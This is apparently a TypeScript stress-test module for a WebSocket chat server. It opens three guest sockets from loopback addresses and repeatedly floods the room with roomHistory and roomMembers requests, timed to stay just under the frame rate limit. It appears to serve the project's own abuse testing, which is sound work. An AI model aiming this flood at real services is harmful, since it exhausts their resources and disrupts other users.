import type { WebSocket } from 'ws'
import { count, loopback, makeGuest, openLink, rounds, type Attack } from './attack.ts'

/** 200 frames in 10 s are allowed. */
const [guests, burst, every] = [3, 190, 10_500] as const

/** Three guests each send 190 of the costliest requests at once, as often as the rate of frames allows. */
export const bursts: Attack = {
  name: 'bursts of roomHistory and roomMembers',
  async run(target, over, tried) {
    const sockets: WebSocket[] = []
    const { roomid } = target
    await rounds(over, every, async () => {
      for (let index = sockets.length; index < guests; index++) {
        const guest = await makeGuest(target, loopback(30, index))
        const socket =
          typeof guest === 'object' &&
          (await openLink(target, guest, loopback(30, index), (frame) =>
            count(tried, frame.slice(6, 8) === 'ok' ? 'answered' : 'other'),
          ))
        if (!socket) continue
        socket.send(JSON.stringify({ t: 'roomEnter', id: 2, roomid, lines: 0 }))
        socket.once('close', () => sockets.splice(sockets.indexOf(socket), 1))
        sockets.push(socket)
      }
      for (const socket of sockets)
        for (let id = 10; id < 10 + burst; id++) {
          socket.send(
            JSON.stringify(
              id % 2
                ? { t: 'roomMembers', id, roomid, type: 1, endtime: 0, limit: 100 }
                : { t: 'roomHistory', id, roomid, before: 1, limit: 1 },
            ),
          )
          count(tried, 'requests')
        }
    })
    for (const socket of sockets) socket.terminate()
  },
}
